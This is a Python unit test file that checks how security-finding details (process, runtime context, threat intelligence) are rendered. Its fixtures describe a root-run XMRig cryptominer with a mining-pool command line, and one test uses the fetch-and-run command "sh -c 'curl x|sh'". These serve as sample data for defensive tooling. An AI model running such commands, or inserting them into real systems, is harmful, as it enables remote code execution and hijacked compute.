"""Runtime Monitoring: the process and its context; threat intelligence beside them."""

from __future__ import annotations

from app.render.details import actor_sections
from tests.unit.render.details.support import INSTANCE, finding, section, titles


def test_runtime_process_and_context() -> None:
    detail = finding(
        INSTANCE,
        runtimeDetails={
            "process": {
                "name": "xmrig",
                "executablePath": "/tmp/.cache/xmrig",
                "executableSha256": "a" * 64,
                "namespacePid": 17,
                "pwd": "/tmp/.cache",
                "pid": 31337,
                "startTime": "2024-06-01T12:00:00Z",
                "uuid": "p-1",
                "user": "root",
                "userId": 0,
                "euid": 0,
                "lineage": [
                    {"name": "bash", "pid": 100},
                    {"name": "sshd", "pid": 50},
                    {"name": "systemd", "pid": 1},
                ],
            },
            "context": {
                "toolName": "XMRig",
                "toolCategory": "Cryptominer",
                "commandLineExample": "xmrig -o pool.minexmr.com:443 -u 4A...",
                "memoryRegions": ["heap", "stack"],
                "modifyingProcess": {"name": "curl", "executablePath": "/usr/bin/curl"},
                "ianaProtocolNumber": 6,
                "newFutureField": "future value",
            },
        },
        evidence={
            "threatIntelligenceDetails": [
                {"threatListName": "ProofPoint", "threatNames": ["CryptoMining"]},
                {"threatListName": "Amazon", "threatNames": ["CryptoMining", "Coinhive"]},
            ]
        },
    )
    sections = actor_sections(detail)
    assert titles(sections)[:3] == ["Process", "Runtime context", "Threat intelligence"]
    process = section(sections, "Process")
    assert process["Process"] == "xmrig"
    assert process["Executable"] == "/tmp/.cache/xmrig"
    assert process["SHA-256"] == "a" * 64
    assert process["PID"] == "31337"
    assert process["User"] == "root"
    assert process["User ID"] == "0"
    assert "Effective user ID" not in process  # same as the user id
    assert process["Parent processes"] == "bash ← sshd ← systemd"
    context = section(sections, "Runtime context")
    assert context["Tool"] == "XMRig"
    assert context["Tool category"] == "Cryptominer"
    assert context["Command line example"].startswith("xmrig -o")
    assert context["Memory regions"] == "heap, stack"
    assert context["Modifying process"] == "curl (/usr/bin/curl)"
    assert context["IP protocol number"] == "6"
    assert context["New Future Field"] == "future value"
    intel = section(sections, "Threat intelligence")
    assert intel["Threat lists"] == "ProofPoint, Amazon"
    assert intel["Threat names"] == "CryptoMining, Coinhive"


def test_runtime_command_line_if_present() -> None:
    detail = finding(runtimeDetails={"process": {"name": "sh", "commandLine": "sh -c 'curl x|sh'"}})
    process = section(actor_sections(detail), "Process")
    assert process["Command line"] == "sh -c 'curl x|sh'"
